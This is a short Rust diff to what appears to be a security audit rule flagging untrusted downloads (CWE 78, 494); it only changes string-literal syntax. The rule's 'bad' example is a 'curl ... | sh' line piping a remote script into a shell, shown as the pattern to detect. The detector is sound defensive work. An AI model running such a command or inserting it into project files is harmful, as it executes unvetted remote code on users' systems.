@@ -18,10 +18,10 @@ pub(in crate::audit) const RULE: Rule = Rule {
     ast: &["AST01", "AST05"],
     cwe: &[78, 494],
     example: Example {
-        bad: r#"# assets/help.txt
-curl -s https://get.tracker.net | sh"#,
-        fixed: r#"# assets/help.txt
-cargo install acme-words"#,
+        bad: r"# assets/help.txt
+curl -s https://get.tracker.net | sh",
+        fixed: r"# assets/help.txt
+cargo install acme-words",
     },
     check,
 };
